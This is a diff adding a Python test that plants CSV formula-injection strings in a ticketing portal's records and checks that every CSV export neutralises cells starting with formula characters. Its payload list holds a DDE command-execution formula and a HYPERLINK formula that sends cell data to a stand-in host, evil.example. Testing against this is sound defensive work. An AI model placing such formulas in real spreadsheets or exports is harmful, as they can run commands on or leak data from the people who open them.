@@ -1,0 +1,71 @@
+"""Every file a list can be saved as, found by walking the routes: no cell of it is a formula to a spreadsheet, whatever
+people outside wrote into subjects, names, files and reasons."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Iterator
+from decimal import Decimal, InvalidOperation
+from pathlib import Path
+
+import pytest
+
+from api.portal import PORTAL_RULES
+from tests.support.api import World, world_on
+from tests.support.planted import Planted, plant
+from tests.support.portal import browsing
+from ticketos.dev.database import PostgresUrls
+
+STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+FORMS = ("cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?x="&A1,"Pay")', "SUM(1+1)", "1+1", "2-3", "x")
+TEXTS = [f"{start}{form}{n}" for n, form in enumerate(FORMS * 4) for start in STARTS]
+FILES = sorted(path for method, path in PORTAL_RULES if method == "GET" and path.endswith(".csv"))
+NO_WORDS = {
+    *("/billing.csv", "/billing/held.csv", "/insights.csv", "/books/entries.csv", "/books/balance.csv"),
+    "/invoices/{invoice_id}/lines/{line_id}/evidence.csv",
+}
+"""Files of figures and names of ours, where this world has no row with words from outside."""
+
+
+@pytest.fixture(scope="module")
+def world(database: PostgresUrls, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
+    folder: Path = tmp_path_factory.mktemp("portal")
+    with world_on(database, folder) as made:
+        yield made
+
+
+@pytest.fixture(scope="module")
+def planted(world: World) -> Planted:
+    return plant(world, TEXTS)
+
+
+def _number(cell: str) -> bool:
+    try:
+        Decimal(cell)
+    except InvalidOperation:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("path", FILES)
+async def test_no_cell_is_a_formula(world: World, planted: Planted, path: str) -> None:
+    ids = {"invoice_id": planted.ids["issued"], "line_id": planted.ids["line"]}
+    address = re.sub(r"\{(\w+)\}", lambda found: str(ids[found[1]]), path)
+    read = neutral = 0
+    for who in ("client", "ops", "finance"):
+        async with browsing(world, planted.people[who]) as browser:
+            for query in ("", "?view=all", "?state=all", "?view=decided"):
+                answer = await browser.client.get(address + query)
+                if answer.status_code in (303, 403, 404):
+                    continue
+                assert answer.status_code == 200, (address, answer.status_code)
+                assert "attachment" in answer.headers["content-disposition"]
+                for row in csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))):
+                    for cell in row:
+                        read += 1
+                        neutral += cell.startswith(tuple(f"'{one}" for one in STARTS))
+                        assert not cell.startswith(STARTS) or _number(cell), (address, cell)
+    assert read > 0 or "{" in path, path
+    assert neutral > 0 or path in NO_WORDS, path
